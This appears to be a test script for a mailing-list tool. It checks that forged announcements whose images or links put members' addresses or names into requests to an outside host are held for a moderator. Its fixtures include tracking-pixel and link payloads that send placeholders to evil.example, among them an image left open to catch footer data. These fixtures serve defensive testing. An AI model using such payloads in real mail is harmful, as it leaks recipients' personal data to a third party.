#!/bin/bash
# A personalised announcement cannot carry members' values to its writer.
# The announcer is known by From alone, which anyone can forge: a post
# from a stranger, written in the announcer's name, that puts {{address}}
# into an image's address (fetched when the mail is opened) or {{name}}
# into a link is held for the moderator, and no member gets a copy; the
# preview says so; the poster named in From is told.  So is a post with
# no placeholder of its own that leaves an image's address open for the
# list's personal footer to land in.  A real invitation, names in the
# text and a plain link beside them, goes out at once.  A moderator who
# approves a held post decides, and it goes out.
source "$(dirname "$0")/lib.sh"
testbed < /dev/null
herald list create invite@lists.example.org --no-prefix >/dev/null
herald list set invite posting=announce personalize=yes
herald sender accept invite careers@example.org >/dev/null
herald moderator add invite mod@example.org >/dev/null
printf '%s\n' 'address,name,organisation' \
    'anna@example.com,Anna Tanaka,Example Corp.' \
    'bernd@example.net,Bernd Berg,Berg & Söhne' |
    herald member import invite --csv >/dev/null
echo '[{"address": "anna@example.com"}, {"address": "bernd@example.net"}]' \
    > "$T/members.json"
printf 'Subject: -\n\n-- \n{{name}}, to stop these, write to %s\n' \
    '{{unsubscribe_address}}' | herald list template invite footer --set -
herald list set invite footer=yes

# forged FILE CONTENT-TYPE BODY: an announcement in the careers office's
# name, as a stranger would send it.
forged() {
	cat > "$1" <<MSG
From: Career Office <careers@example.org>
To: invite@lists.example.org
Subject: Career day for {{organisation}}
Message-ID: <$(basename "$1")@evil.example>
MIME-Version: 1.0
Content-Type: $2; charset=utf-8

$3
MSG
}

echo "an image whose address holds {{address}}: held, nobody gets a copy"
forged "$T/image.eml" text/html '<p>Dear {{name}},</p>
<img src="https://evil.example/p.gif?who={{address}}">'
herald post preview invite "$T/image.eml" --member anna@example.com \
    2> "$T/preview" > /dev/null
grep -q 'would be held: the placeholder {{address}} stands inside HTML' \
    "$T/preview" || fail "preview: $(head -n 1 "$T/preview")"
note "ok: the preview says it would be held"
submit attacker@evil.example invite@lists.example.org "$T/image.eml"
wait_held 1
wait_delivered 2
check_py not_delivered "$T" "$T/members.json"
check_py notices "$T" mod@example.org 1 "held"
check_py notices "$T" careers@example.org 1 "awaits a moderator"
herald held ls --json | grep -q 'placeholder {{address}} stands inside' ||
    fail "the held post does not say why"
grep -l 'anna@\|bernd@\|Tanaka\|Berg' "$T"/mail/all/new/* &&
    fail "a notice names a member"
note "ok: no member got it, no notice names one"
clear_mail

echo "a link that carries {{name}}, in plain text: held as well"
forged "$T/link.eml" text/plain \
    'Dear {{name}}, register at https://evil.example/r?who={{name}}'
submit attacker@evil.example invite@lists.example.org "$T/link.eml"
wait_held 2
wait_delivered 1
check_py not_delivered "$T" "$T/members.json"
herald held ls --json | grep -q 'placeholder {{name}} stands in a link' ||
    fail "the held link post does not say why"
note "ok: held, and the moderator is told why"
clear_mail

echo "an image left open for the footer's placeholders: held"
forged "$T/open.eml" text/html '<p>News for you.</p>
<img src="https://evil.example/p.gif?f='
sed -i 's/^Subject: .*/Subject: News/' "$T/open.eml"
submit attacker@evil.example invite@lists.example.org "$T/open.eml"
wait_held 3
wait_delivered 1
check_py not_delivered "$T" "$T/members.json"
herald held ls --json | grep -q 'placeholder {{name}} stands inside HTML' ||
    fail "the post with an open image is not held for it"
note "ok: held, though the post itself has no placeholder"
clear_mail

echo "the real invitation: names in the text, a link beside them: sent"
forged "$T/real.eml" text/html '<p>Dear {{name}},</p>
<p>{{organisation}} is welcome:
<a href="https://example.org/career-day">register</a>.</p>'
submit careers@example.org invite@lists.example.org "$T/real.eml"
wait_delivered 2
for who in "anna@example.com:Anna Tanaka" "bernd@example.net:Bernd Berg"; do
	f=$(mailbox "${who%%:*}")
	[ -n "$f" ] || fail "${who%%:*} got no copy"
	grep -q "Dear ${who#*:}" "$f" || fail "${who%%:*}: not its own name"
done
note "ok: each member got the invitation with their own name"
clear_mail

echo "the moderator approves the first held post: it goes out"
herald held approve "$(held_ids | head -n 1)" >/dev/null
herald deliver --quiet
wait_delivered 2
[ -n "$(mailbox anna@example.com)" ] || fail "no copy after approval"
note "ok: sent once a moderator decided"
echo "PASS"
